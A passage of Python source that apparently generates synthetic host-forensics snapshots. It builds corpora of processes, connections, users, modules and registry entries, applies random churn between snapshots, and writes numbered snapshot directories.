        corpus.registry[i] = replace(
            r,
            value_data=f"{rng.choice(INSTALL_DIRS)}\\{_exe_name(rng)}",
            last_write=_time_between(rng, cfg.window_start, cfg.window_end),
        )
    _gen_registry(rng, corpus, m)


def apply_churn(rng: random.Random, corpus: Corpus, churn: float) -> None:
    """Remove, mutate and add about ``churn * size`` entities per class, in place."""
    sizes = corpus.counts()
    _churn_processes(rng, corpus, _churn_count(churn, sizes["processes"]))
    _churn_connections(rng, corpus, _churn_count(churn, sizes["connections"]))
    _churn_users(rng, corpus, _churn_count(churn, sizes["users"]))
    _churn_modules(rng, corpus, _churn_count(churn, sizes["modules"]))
    _churn_registry(rng, corpus, _churn_count(churn, sizes["registry"]))


def sequence_label(index: int) -> str:
    return f"snap-{index:03d}"


def snapshot_sequence(cfg: EmulationConfig, k: int, churn: float):
    """Yield ``(label, captured_at, corpus)`` for k successive snapshots.

    The corpus object is mutated between yields; consume each item before
    advancing.
    """
    if k < 2:
        raise InvalidConfig("a snapshot sequence needs k >= 2")
    if not (0.0 <= churn <= 1.0):
        raise InvalidConfig("churn must lie in [0, 1]")
    rng = random.Random(cfg.seed)
    corpus = _build(cfg, rng)
    for i in range(k):
        if i:
            apply_churn(rng, corpus, churn)
            alive = {p.key() for p in corpus.flat()} | {EntityKey.of("connections", c) for c in corpus.connections}
            corpus.planted = [(r, s) for r, s in corpus.planted if s in alive]
        yield sequence_label(i), cfg.window_end + timedelta(hours=i), corpus


def emulate_snapshot_sequence(cfg: EmulationConfig, k: int, churn: float, out_root: str | Path) -> list[str]:
    """Write k snapshot directories under ``out_root``; returns their labels."""
    labels = []
    for label, captured_at, corpus in snapshot_sequence(cfg, k, churn):
        corpus.write(Path(out_root) / label, label=label, captured_at=captured_at)
        labels.append(label)
    return labels
